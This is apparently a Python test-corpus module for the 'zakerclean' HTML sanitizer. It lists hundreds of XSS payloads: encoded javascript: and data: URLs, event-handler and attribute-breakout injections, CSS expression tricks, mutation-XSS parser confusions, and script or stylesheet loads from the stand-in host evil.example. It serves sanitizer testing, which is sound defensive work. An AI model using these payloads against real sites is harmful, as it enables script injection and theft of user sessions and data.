"""A hand-written XSS corpus for zakerclean, and the ZAKER-shaped contexts it is planted in.

Importable on its own (no pytest, no zakerclean import), so that other checks — a real-browser
run, for one — can replay exactly the same inputs:

* :data:`VECTORS` — ``(vector_id, html)``: every hostile fragment.  It includes one HTML form
  (``<a href=PAYLOAD>``) of every URL payload, under the id ``url-<name>``.
* :data:`URL_VECTORS` — ``(vector_id, payload)``: the raw URL payloads (same ids as their HTML
  forms in :data:`VECTORS`).  Payloads are written to sit *raw* inside a double-quoted attribute:
  their HTML entities are meant to be decoded by the parser, and a few carry a ``"`` on purpose
  to break out of the attribute.
* :data:`CONTEXTS` — ``name -> wrap(str) -> html``.  Names in :data:`MARKUP_CONTEXTS` take a
  vector's HTML; names in :data:`URL_CONTEXTS` take a raw URL payload and put it in an attribute
  (``href``, ``src``, ``data-original``, ``data-gif-url``, ``poster``, ``data-zkinfo``'s
  ``videoUrl``/``imgUrl`` …).
* :func:`all_cases` — ``(case_id, html)`` for every vector in every markup context and every URL
  payload in every URL context; ``case_id`` is ``"<context>:<vector_id>"``.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from urllib.parse import quote

__all__ = [
    "CONTEXTS",
    "HTML_VECTORS",
    "MARKUP_CONTEXTS",
    "URL_CONTEXTS",
    "URL_VECTORS",
    "VECTORS",
    "all_cases",
    "case_parts",
]

PROXY = "https://cors.zfour.workers.dev/?"
REDIRECTOR = "http://iphone.myzaker.com/zaker/link.php?f=zaker&b="
SAFE_IMG = "http://zkres1.myzaker.com/a_1024.jpg"
SAFE_VIDEO = "http://h/v.mp4"
JS = "javascript:alert(1)"
B64_SCRIPT = base64.b64encode(b"<script>alert(1)</script>").decode()
B64_SVG = base64.b64encode(
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
).decode()


def _dec(text: str, *, semicolon: bool = True, pad: int = 0) -> str:
    """Every character of ``text`` as a decimal character reference."""
    end = ";" if semicolon else ""
    return "".join(f"&#{ord(c):0{pad}d}{end}" for c in text)


def _hex(text: str, *, semicolon: bool = True, pad: int = 0, upper_x: bool = False) -> str:
    """Every character of ``text`` as a hexadecimal character reference."""
    end = ";" if semicolon else ""
    x = "X" if upper_x else "x"
    return "".join(f"&#{x}{ord(c):0{pad}x}{end}" for c in text)


def _pct(text: str) -> str:
    """Every character of ``text`` percent-encoded."""
    return "".join(f"%{ord(c):02X}" for c in text)


def _b64(text: str, *, urlsafe: bool = False, strip_padding: bool = False) -> str:
    raw = text.encode()
    encoded = (base64.urlsafe_b64encode if urlsafe else base64.b64encode)(raw).decode()
    return encoded.rstrip("=") if strip_padding else encoded


def _zkinfo(video_url: str, img_url: str) -> str:
    """ZAKER's ``data-zkinfo``: URL-encoded JSON, as found in the corpus."""
    info = {"status": "finished", "imgUrl": img_url, "videoUrl": video_url, "name": "v.mp4"}
    return quote(json.dumps(info, separators=(",", ":")), safe="")


def _zkinfo_entities(video_url: str, img_url: str) -> str:
    """``data-zkinfo`` as HTML-escaped (not URL-encoded) JSON; the URLs are left raw inside."""
    return (
        "{&quot;status&quot;:&quot;finished&quot;,&quot;imgUrl&quot;:&quot;"
        + img_url
        + "&quot;,&quot;videoUrl&quot;:&quot;"
        + video_url
        + "&quot;}"
    )


# --------------------------------------------------------------------------------------------
# URL payloads (each also becomes an HTML vector ``url-<name>``: ``<a href="PAYLOAD">``)
# --------------------------------------------------------------------------------------------

URL_PAYLOADS: list[tuple[str, str]] = [
    ("safe-control", SAFE_IMG),
    ("js-plain", JS),
    ("js-upper", "JAVASCRIPT:ALERT(1)"),
    ("js-mixed-case", "JaVaScRiPt:alert(1)"),
    ("js-leading-spaces", "   javascript:alert(1)"),
    ("js-leading-tab-newline", "\t\n \rjavascript:alert(1)"),
    ("js-trailing-junk", "javascript:alert(1)\t\n "),
    ("js-tab-inside", "java\tscript:alert(1)"),
    ("js-newline-inside", "jav\nascript:alert(1)"),
    ("js-cr-inside", "javas\rcript:alert(1)"),
    ("js-all-whitespace-inside", "j\ta\nv\ra script :alert(1)"),
    ("js-ctrl-leading-x01", "\x01javascript:alert(1)"),
    ("js-ctrl-inside-x0b", "java\x0bscript:alert(1)"),
    ("js-ctrl-x7f", "\x7fjavascript:alert(1)"),
    ("js-entity-Tab", "java&Tab;script:alert(1)"),
    ("js-entity-NewLine", "java&NewLine;script:alert(1)"),
    ("js-entity-colon", "javascript&colon;alert(1)"),
    ("js-entity-colon-and-tab", "&Tab;java&Tab;script&colon;alert(1)"),
    ("js-entity-tab-dec", "java&#9;script:alert(1)"),
    ("js-entity-tab-hex", "java&#x09;script:alert(1)"),
    ("js-entity-newline-hex-no-semi", "jav&#x0Aascript:alert(1)"),
    ("js-entity-cr-dec-padded", "jav&#00013;ascript:alert(1)"),
    ("js-entity-leading-space", "&#32;&#x20;javascript:alert(1)"),
    ("js-entity-leading-ctrl", "&#1;&#x0e;javascript:alert(1)"),
    ("js-entity-colon-dec", "javascript&#58;alert(1)"),
    ("js-entity-colon-dec-padded-no-semi", "javascript&#0000058alert(1)"),
    ("js-entity-colon-hex", "javascript&#x3A;alert(1)"),
    ("js-entity-dec-all", _dec(JS)),
    ("js-entity-dec-no-semi", _dec(JS, semicolon=False)),
    ("js-entity-dec-padded-no-semi", _dec(JS, semicolon=False, pad=7)),
    ("js-entity-hex-all", _hex(JS)),
    ("js-entity-hex-no-semi", _hex(JS, semicolon=False)),
    ("js-entity-hex-padded-upper-x", _hex(JS, pad=6, upper_x=True)),
    ("js-entity-one-char", "&#106;avascript:alert(1)"),
    ("js-entity-mixed", "j&#x61;v&#97script&#x3a;alert&lpar;1&rpar;"),
    ("js-url-encoded-colon", "javascript%3Aalert(1)"),
    ("js-url-encoded-all", _pct("javascript:") + "alert(1)"),
    ("js-url-encoded-tab", "java%09script:alert(1)"),
    ("js-comment-newline", "javascript://%0Aalert(1)"),
    ("js-comment-entity-newline", "javascript://x&#10;alert(1)"),
    ("js-polyglot", "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/"),
    ("js-void", "javascript:void(0)"),
    ("data-html-base64", f"data:text/html;base64,{B64_SCRIPT}"),
    ("data-html-plain", "data:text/html,<script>alert(1)</script>"),
    ("data-upper", "DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E"),
    ("data-svg-base64", f"data:image/svg+xml;base64,{B64_SVG}"),
    ("data-leading-space-entity-colon", " data&colon;text/html,%3Cscript%3Ealert(1)%3C/script%3E"),
    ("data-js", "data:text/javascript,alert(1)"),
    ("data-gif-placeholder", "data:image/gif;base64,R0lGODlhAQABAAAAACw="),
    ("vbscript-plain", "vbscript:msgbox(1)"),
    ("vbscript-upper", "VBSCRIPT:MsgBox(1)"),
    ("vbscript-entity", "vbs&#99;ript&#58;msgbox(1)"),
    ("other-livescript", "livescript:alert(1)"),
    ("other-mocha", "mocha:alert(1)"),
    ("other-view-source", "view-source:javascript:alert(1)"),
    ("other-feed", "feed:javascript:alert(1)"),
    ("other-blob", "blob:http://evil.example/uuid"),
    ("other-file", "file:///etc/passwd"),
    ("proxy-js", PROXY + JS),
    ("proxy-http-js", "http://cors.zfour.workers.dev/?" + JS),
    ("proxy-upper-js", "HTTPS://CORS.ZFOUR.WORKERS.DEV/?" + JS),
    ("proxy-double-js", PROXY + PROXY + JS),
    ("proxy-double-encoded-js", PROXY + quote("http://cors.zfour.workers.dev/?" + JS, safe="")),
    ("proxy-tab-js", PROXY + "java\tscript:alert(1)"),
    ("proxy-entity-js", PROXY + "&#106;avascript&colon;alert(1)"),
    ("proxy-space-js", PROXY + "  javascript:alert(1)"),
    ("proxy-data", PROXY + f"data:text/html;base64,{B64_SCRIPT}"),
    ("proxy-vbscript", PROXY + "vbscript:msgbox(1)"),
    ("proxy-scheme-relative-js", PROXY + "//cors.zfour.workers.dev/?" + JS),
    ("scheme-relative-proxy-js", "//cors.zfour.workers.dev/?" + JS),
    ("redirect-js", REDIRECTOR + _b64(JS)),
    ("redirect-js-urlsafe-nopad", REDIRECTOR + _b64(JS + "//?>", urlsafe=True, strip_padding=True)),
    ("redirect-data", REDIRECTOR + _b64(f"data:text/html;base64,{B64_SCRIPT}")),
    ("redirect-http-newline-js", REDIRECTOR + _b64("http://a/\njavascript:alert(1)")),
    ("redirect-proxy-js", REDIRECTOR + _b64(PROXY + JS)),
    ("redirect-proxy-http-js", REDIRECTOR + _b64("http://cors.zfour.workers.dev/?" + JS)),
    ("redirect-double-proxy-data", REDIRECTOR + _b64(PROXY + PROXY + "data:text/html,x")),
    ("redirect-proxy-vbscript", REDIRECTOR + _b64(PROXY + "vbscript:msgbox(1)")),
    ("redirect-nested-redirect", REDIRECTOR + _b64(REDIRECTOR + _b64(JS))),
    ("proxy-redirect-js", PROXY + REDIRECTOR + _b64(JS)),
    ("breakout-dq-onerror", 'x" onerror="alert(1)'),
    ("breakout-dq-script", 'x"><script>alert(1)</script>'),
    ("breakout-dq-svg", 'x"/><svg/onload=alert(1)>'),
    ("breakout-entity-quote", "x&quot; onerror=&quot;alert(1)"),
    ("breakout-sq", "x' onerror='alert(1)"),
    ("mailto-with-markup", "mailto:a@example.com?body=%3Cscript%3Ealert(1)%3C/script%3E"),
]

# --------------------------------------------------------------------------------------------
# Hand-written HTML vectors, by family
# --------------------------------------------------------------------------------------------

SCRIPT_VECTORS: list[tuple[str, str]] = [
    ("script-bare", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-src", '<script src="http://evil.example/x.js"></script>'),
    ("script-slash-src", "<script/src=//evil.example/x.js></script>"),
    ("script-unclosed", "<p>before</p><script>alert(1)"),
    ("script-split-name", "<scr<script>x</script>ipt>alert(1)</scr</script>ipt>"),
    ("script-module", "<script type=module>import('//evil.example/x.js')</script>"),
    ("script-odd-end-tag", "<script>alert(1)</script\t\n foo>after"),
    ("script-tab-in-open-tag", "<script\t>alert(1)</script\t>"),
    ("script-double-lt", "<<script>alert(1);//<</script>"),
    ("script-stray-end-first", "</script><script>alert(1)</script>"),
    ("script-comment-trick", "<script>/*</script><script>*/alert(1)</script>"),
    ("script-in-p", "<p>text <script>alert(1)</script> more</p>"),
    ("script-in-table-cell", "<table><tr><td><script>alert(1)</script>cell</td></tr></table>"),
    ("script-table-foster", "<table><script>alert(1)</script><tr><td>c</td></tr></table>"),
    ("script-table-text-foster", "<table>x<script>alert(1)</script><tr><td>c</td></tr></table>"),
    ("script-in-list", "<ul><li><script>alert(1)</script>item</li></ul>"),
    ("script-in-ol-start", "<ol start=2><li>a<script>alert(1)</script></li></ol>"),
    ("script-in-svg", "<svg><script>alert(1)</script></svg>"),
    ("script-in-svg-href", '<svg><script href="data:text/javascript,alert(1)"></script></svg>'),
    ("script-in-svg-xlink", '<svg><script xlink:href="data:,alert(1)" /></svg>'),
    ("script-in-svg-cdata", "<svg><script><![CDATA[alert(1)]]></script></svg>"),
    ("script-in-math", "<math><mi><script>alert(1)</script></mi></math>"),
    ("script-in-noscript", "<noscript><script>alert(1)</script></noscript>"),
    ("script-in-template", "<template><script>alert(1)</script></template>"),
    ("script-in-style", "<style><script>alert(1)</script></style>"),
    ("script-after-style", "<style>p{}</style><script>alert(1)</script>"),
    ("script-in-textarea", "<textarea><script>alert(1)</script></textarea>"),
    ("script-after-textarea", "<textarea>t</textarea><script>alert(1)</script>"),
    ("script-in-title", "<title><script>alert(1)</script></title>"),
    ("script-in-xmp", "<xmp><script>alert(1)</script></xmp>"),
    ("script-in-listing", "<listing><script>alert(1)</script></listing>"),
    ("script-in-plaintext", "<plaintext><script>alert(1)</script>"),
    ("script-in-iframe-body", "<iframe><script>alert(1)</script></iframe>"),
    ("script-in-select", "<select><option><script>alert(1)</script></option></select>"),
    ("script-in-code", "<p><code><script>alert(1)</script></code></p>"),
    ("script-in-pre", "<pre><script>alert(1)</script></pre>"),
    ("script-in-blockquote", "<blockquote><script>alert(1)</script>q</blockquote>"),
    (
        "script-in-figcaption",
        f'<figure><img src="{SAFE_IMG}"><figcaption>c<script>alert(1)</script></figcaption></figure>',
    ),
    ("script-in-head", "<html><head><script>alert(1)</script></head><body><p>b</p></body></html>"),
    ("script-entity-name", "<&#115;cript>alert(1)</&#115;cript>"),
    ("script-escaped-text", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
    ("script-double-escaped-text", "<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</p>"),
    ("script-fullwidth", "<p>＜script＞alert(1)＜/script＞</p>"),
    ("script-nul-in-name", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    ("script-vt-in-name", "<scr\x0bipt>alert(1)</scr\x0bipt>"),
    (
        "script-xss-tag-afterscriptexecute",
        "<xss onafterscriptexecute=alert(1)><script>1</script></xss>",
    ),
]

HANDLER_VECTORS: list[tuple[str, str]] = [
    ("on-img-onerror", "<img src=x onerror=alert(1)>"),
    ("on-img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    ("on-img-onerror-mixed", "<img src=x oNeRrOr=alert(1)>"),
    ("on-img-onload", f'<img src="{SAFE_IMG}" onload="alert(1)">'),
    ("on-img-slashes", "<img/src=x/onerror=alert(1)>"),
    ("on-img-newlines", "<img\nsrc=x\nonerror=alert(1)>"),
    ("on-img-tabs", "<img\tsrc=x\tonerror=alert(1)>"),
    ("on-img-ff-vt", "<img\x0csrc=x\x0bonerror=alert(1)>"),
    ("on-img-no-space", f'<img src="{SAFE_IMG}"onerror="alert(1)">'),
    ("on-img-unterminated", "<p>x</p><img src=x onerror=alert(1)//"),
    ("on-img-unterminated-quote", '<img src="x" onerror="alert(1)'),
    ("on-img-dup-attr", f'<img src="{SAFE_IMG}" onerror=alert(1) onerror=alert(2)>'),
    ("on-img-entity-value", "<img src=x onerror=alert&#40;1&#41;>"),
    ("on-img-entity-in-name-dec", "<img src=x &#111;nerror=alert(1)>"),
    ("on-img-entity-in-name-hex", "<img src=x o&#x6e;error=alert(1)>"),
    ("on-img-eval-src", "<img src=x:alert(alt) onerror=eval(src) alt=0>"),
    (
        "on-img-lazy",
        f'<img class="lazy" data-original="{SAFE_IMG}" onerror="alert(1)" onload="alert(2)">',
    ),
    ("on-img-backtick", "<img src=`x`onerror=alert(1)>"),
    ("on-image-tag", "<image src=x onerror=alert(1)>"),
    ("on-svg-onload", "<svg onload=alert(1)>"),
    ("on-svg-slash-onload", "<svg/onload=alert(1)>"),
    ("on-svg-g-onload", "<svg><g onload=alert(1)></g></svg>"),
    ("on-svg-image", "<svg><image href=x onerror=alert(1) /></svg>"),
    ("on-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("on-svg-set-onbegin", "<svg><set onbegin=alert(1) attributeName=x to=1></svg>"),
    (
        "on-svg-foreignobject",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    ),
    ("on-body-onload", "<body onload=alert(1)><p>b</p></body>"),
    ("on-body-onpageshow", "<html><body onpageshow=alert(1)>b</body></html>"),
    ("on-frameset-onload", "<frameset onload=alert(1)>"),
    ("on-details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>d</details>"),
    ("on-video-onerror", "<video src=x onerror=alert(1)></video>"),
    ("on-video-source-onerror", "<video><source src=x onerror=alert(1)></video>"),
    (
        "on-video-valid-handlers",
        f'<video src="{SAFE_VIDEO}" poster="{SAFE_IMG}" onloadstart=alert(1) oncanplay=alert(2) controls></video>',
    ),
    ("on-audio-onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("on-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("on-input-image", "<input type=image src=x onerror=alert(1)>"),
    ("on-textarea-autofocus", "<textarea autofocus onfocus=alert(1)>t</textarea>"),
    ("on-select-autofocus", "<select autofocus onfocus=alert(1)><option>o</option></select>"),
    ("on-keygen-autofocus", "<keygen autofocus onfocus=alert(1)>"),
    ("on-span-contenteditable", "<p><span contenteditable autofocus onfocus=alert(1)>x</span></p>"),
    ("on-marquee-onstart", "<marquee onstart=alert(1)>m</marquee>"),
    ("on-iframe-onload", "<iframe onload=alert(1)></iframe>"),
    ("on-iframe-src-onload", '<iframe src="http://v.qq.com/x" onload=alert(1)></iframe>'),
    ("on-p-onclick", "<p onclick=alert(1)>click</p>"),
    ("on-p-slash-onclick", "<p/onclick=alert(1)>click</p>"),
    ("on-a-onmouseover", '<a href="http://a.example/" onmouseover=alert(1)>hover</a>'),
    ("on-a-no-space", '<a href="http://a.example/"onclick=alert(1)>x</a>'),
    ("on-div-onpointerover", "<div onpointerover=alert(1)>x</div>"),
    (
        "on-div-onanimationstart",
        '<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart=alert(1)>x</div>',
    ),
    ("on-p-ontransitionend", '<p style="transition:color 1s" ontransitionend=alert(1)>x</p>'),
    ("on-button-onclick", "<button onclick=alert(1)>b</button>"),
    ("on-object-onerror", "<object onerror=alert(1)>o</object>"),
    ("on-embed-onload", "<embed src=x onload=alert(1)>"),
    (
        "on-table-onmouseover",
        "<table onmouseover=alert(1)><tr><td onclick=alert(2)>x</td></tr></table>",
    ),
    ("on-ol-onclick", "<ol start=3 onclick=alert(1)><li>x</li></ol>"),
    ("on-figure-onclick", f'<figure onclick=alert(1)><img src="{SAFE_IMG}"></figure>'),
    ("on-h1-onmouseenter", "<h1 onmouseenter=alert(1)>t</h1>"),
    ("on-b-onmouseover", "<b onmouseover=alert(1)>b</b>"),
    (
        "on-img-box-onclick",
        f'<div class="img_box" onclick="alert(1)"><img class="lazy" data-original="{SAFE_IMG}"></div>',
    ),
    ("on-style-onload", "<style onload=alert(1)></style>"),
    ("on-link-onload", "<link rel=stylesheet href=x onload=alert(1)>"),
    ("on-isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("on-form-onsubmit", "<form onsubmit=alert(1)><input type=submit></form>"),
    ("on-nul-in-name", "<img src=x on\x00error=alert(1)>"),
]

URL_ATTR_VECTORS: list[tuple[str, str]] = [
    ("attr-form-action", "<form action=javascript:alert(1)><input type=submit value=go></form>"),
    ("attr-button-formaction", "<form><button formaction=javascript:alert(1)>b</button></form>"),
    ("attr-input-formaction", '<input type=submit formaction="javascript:alert(1)" value=go>'),
    ("attr-isindex-action", "<isindex action=javascript:alert(1) type=submit>"),
    ("attr-base-js", '<base href="javascript:alert(1)//"><a href="x">rel</a>'),
    ("attr-base-evil", '<base href="http://evil.example/"><a href="x.html">rel</a>'),
    ("attr-meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    (
        "attr-meta-refresh-data",
        f'<meta http-equiv="refresh" content="0;url=data:text/html;base64,{B64_SCRIPT}">',
    ),
    ("attr-object-data-js", '<object data="javascript:alert(1)">o</object>'),
    ("attr-object-data-html", f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>'),
    (
        "attr-object-scriptlet",
        '<object type="text/x-scriptlet" data="http://evil.example/x"></object>',
    ),
    ("attr-embed-js", '<embed src="javascript:alert(1)">'),
    ("attr-embed-svg", f'<embed src="data:image/svg+xml;base64,{B64_SVG}" type="image/svg+xml">'),
    ("attr-applet", '<applet code="X.class" codebase="javascript:alert(1)">a</applet>'),
    ("attr-iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    (
        "attr-iframe-srcdoc-with-src",
        '<iframe src="http://v.qq.com/x" srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    ),
    ("attr-iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("attr-iframe-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ("attr-iframe-data-src-js", '<iframe data-src="javascript:alert(1)"></iframe>'),
    ("attr-frame-js", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("attr-link-import", '<link rel="import" href="http://evil.example/x.html">'),
    ("attr-link-stylesheet-js", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("attr-a-target-opener", '<a href="javascript:alert(1)" target="_blank" rel="opener">x</a>'),
    (
        "attr-a-target-safe-href",
        '<a href="http://a.example/" target="_blank" rel="opener" ping="http://evil.example/">x</a>',
    ),
    ("attr-a-js-with-text-url", '<a href="javascript:alert(1)">http://a.example/</a>'),
    (
        "attr-area-js",
        '<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>',
    ),
    (
        "attr-svg-a-xlink",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    ),
    (
        "attr-svg-a-href",
        '<svg><a href="javascript:alert(1)"><rect width="100" height="100" /></a></svg>',
    ),
    (
        "attr-svg-animate-href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>",
    ),
    (
        "attr-svg-animate-xlink",
        '<svg><a xlink:href="#"><animate attributeName="xlink:href" values="javascript:alert(1)" /><text>t</text></a></svg>',
    ),
    (
        "attr-svg-set-href",
        "<svg><a><set attributeName=href to=javascript:alert(1) /><text>t</text></a></svg>",
    ),
    ("attr-svg-use-data", f'<svg><use href="data:image/svg+xml;base64,{B64_SVG}#x" /></svg>'),
    (
        "attr-svg-use-xlink-data",
        "<svg><use xlink:href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\" /></svg>",
    ),
    (
        "attr-svg-feimage",
        '<svg><filter><feImage xlink:href="javascript:alert(1)" /></filter></svg>',
    ),
    ("attr-math-href", '<math href="javascript:alert(1)">CLICK</math>'),
    (
        "attr-math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    ("attr-img-srcset-js", f'<img src="{SAFE_IMG}" srcset="javascript:alert(1) 2x">'),
    ("attr-img-srcset-only-js", '<img srcset="javascript:alert(1) 1x, javascript:alert(2) 2x">'),
    (
        "attr-img-dynsrc-lowsrc",
        f'<img src="{SAFE_IMG}" dynsrc="javascript:alert(1)" lowsrc="javascript:alert(2)">',
    ),
    ("attr-img-longdesc", f'<img src="{SAFE_IMG}" longdesc="javascript:alert(1)">'),
    (
        "attr-img-all-lazy-js",
        '<img data-gif-url="javascript:alert(1)" data-original="javascript:alert(2)" data-src="vbscript:x" data-actualsrc="data:text/html,x" src="javascript:alert(3)">',
    ),
    ("attr-input-image-js", '<input type=image src="javascript:alert(1)">'),
    ("attr-bgsound", "<bgsound src=javascript:alert(1)>"),
    ("attr-layer", "<layer src=javascript:alert(1)></layer>"),
    (
        "attr-table-background",
        "<table background=javascript:alert(1)><tr><td background=javascript:alert(2)>x</td></tr></table>",
    ),
    ("attr-body-background", "<body background=javascript:alert(1)><p>b</p></body>"),
    ("attr-blockquote-cite", '<blockquote cite="javascript:alert(1)">q</blockquote>'),
    ("attr-video-poster-js", f'<video poster="javascript:alert(1)" src="{SAFE_VIDEO}"></video>'),
    (
        "attr-video-src-js",
        '<video src="javascript:alert(1)" poster="javascript:alert(2)" controls="javascript:alert(3)"></video>',
    ),
    ("attr-source-src-js", '<video><source src="javascript:alert(1)" type="video/mp4"></video>'),
    ("attr-zkinfo-js", f'<div class="zk_upvideo" data-zkinfo="{_zkinfo(JS, JS)}"></div>'),
    (
        "attr-zkinfo-entity-json-js",
        f'<div class="zk_upvideo" data-zkinfo="{_zkinfo_entities("&#106;avascript:alert(1)", "java&Tab;script:alert(2)")}"></div>',
    ),
    (
        "attr-zkinfo-encoded-js",
        f'<div class="zk_upvideo" data-zkinfo="{_zkinfo_entities("javascript%3Aalert(1)", "data%3Atext/html,x")}"></div>',
    ),
    ("attr-ol-start-js", "<ol start=javascript:alert(1)><li>x</li></ol>"),
    (
        "attr-td-colspan-breakout",
        '<table><tr><td colspan="1&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</td></tr></table>',
    ),
    (
        "attr-img-width-breakout",
        f'<img src="{SAFE_IMG}" width="1&quot; onerror=&quot;alert(1)" data-width="2 onerror=alert(1)">',
    ),
]

STYLE_VECTORS: list[tuple[str, str]] = [
    ("style-block-url-js", '<style>body{background:url("javascript:alert(1)")}</style><p>x</p>'),
    ("style-block-import", "<style>@import 'http://evil.example/x.css';</style><p>x</p>"),
    ("style-block-import-js", "<style>@import url(javascript:alert(1));</style><p>x</p>"),
    (
        "style-block-moz-binding",
        "<style>*{-moz-binding:url(http://evil.example/x.xml#xss)}</style><p>x</p>",
    ),
    ("style-block-expression", "<style>p{width:expression(alert(1))}</style><p>x</p>"),
    ("style-block-breakout", "<style>p{}</style><img src=x onerror=alert(1)></style>"),
    ("style-in-svg", "<svg><style>*{fill:url(javascript:alert(1))}</style></svg>"),
    ("style-attr-url-js", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-attr-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("style-attr-expression-comment", '<p style="width:expr/**/ession(alert(1))">x</p>'),
    (
        "style-attr-css-escapes",
        '<p style="background-image:\\75\\72\\6c(javascript:alert(1))">x</p>',
    ),
    (
        "style-attr-moz-binding",
        "<p style=\"-moz-binding:url('http://evil.example/x.xml#x')\">x</p>",
    ),
    ("style-attr-behavior", '<p style="behavior:url(x.htc)">x</p>'),
    ("style-attr-entities", '<p style="background:url(&#106;avascript:alert(1))">x</p>'),
    ("style-attr-breakout", '<p style="}</style><script>alert(1)</script>">x</p>'),
    (
        "style-attr-overlay",
        '<a href="http://a.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
    ),
    ("style-link-data-css", '<link rel=stylesheet href="data:text/css,*{x:expression(alert(1))}">'),
    ("style-img-style", f'<img src="{SAFE_IMG}" style="width:expression(alert(1))">'),
]

MXSS_VECTORS: list[tuple[str, str]] = [
    (
        "mxss-noscript-title",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ),
    ("mxss-svg-style", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("mxss-math-style", "<math><style><img src=x onerror=alert(1)></style></math>"),
    (
        "mxss-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    (
        "mxss-mglyph-comment",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ),
    (
        "mxss-form-math",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    ("mxss-svg-p-style", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    ("mxss-svg-p-breakout", "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>"),
    (
        "mxss-svg-textarea",
        '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
    ),
    (
        "mxss-template-style",
        "<template><style></template><img src=x onerror=alert(1)></style></template>",
    ),
    (
        "mxss-select-template",
        "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    ),
    (
        "mxss-textarea-title",
        '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    ),
    ("mxss-title-title", '<title><p title="</title><img src=x onerror=alert(1)>"></title>'),
    ("mxss-style-title", '<style><p title="</style><img src=x onerror=alert(1)>"></style>'),
    ("mxss-xmp-title", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    ("mxss-iframe-title", '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
    ("mxss-noembed-title", '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    (
        "mxss-noframes-title",
        '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    ),
    ("mxss-plaintext-img", "<plaintext><img src=x onerror=alert(1)>"),
    ("mxss-svg-cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("mxss-math-cdata", "<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>"),
    ("mxss-svg-desc", "<svg><desc><img src=x onerror=alert(1)></desc></svg>"),
    ("mxss-svg-title", "<svg><title><img src=x onerror=alert(1)></title></svg>"),
    (
        "mxss-foreignobject-style",
        "<svg><foreignObject><p><style><img src=x onerror=alert(1)></style></p></foreignObject></svg>",
    ),
    (
        "mxss-annotation-xml",
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    ),
    (
        "mxss-caption-svg-style",
        "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>",
    ),
    (
        "mxss-nested-a-table",
        '<svg><a><foreignObject><a><table><a></table><style><!--</style></svg><a id="-><img src=x onerror=alert(1)>">.',
    ),
    ("mxss-math-mi-xlink", '<math><mi xlink:href="data:x,<script>alert(1)</script>">m</mi></math>'),
    (
        "mxss-img-alt-noscript",
        f'<img alt="</noscript><img src=x onerror=alert(1)>" src="{SAFE_IMG}">',
    ),
    ("mxss-img-alt-script", f'<img alt="<script>alert(1)</script>" src="{SAFE_IMG}">'),
    (
        "mxss-img-alt-quote-breakout",
        f'<img alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" src="{SAFE_IMG}">',
    ),
    (
        "mxss-a-title",
        '<a href="http://a.example/" title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>',
    ),
    ("mxss-code-escaped-img", "<p><code>&lt;img src=x onerror=alert(1)&gt;</code></p>"),
    ("mxss-pre-escaped-script", "<pre>&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</pre>"),
    ("mxss-escaped-comment-end", "<p>--&gt;&lt;img src=x onerror=alert(1)&gt;</p>"),
    (
        "mxss-p-in-svg-in-table",
        "<table><tr><td><svg><p>x</p><img src=x onerror=alert(1)></svg></td></tr></table>",
    ),
]

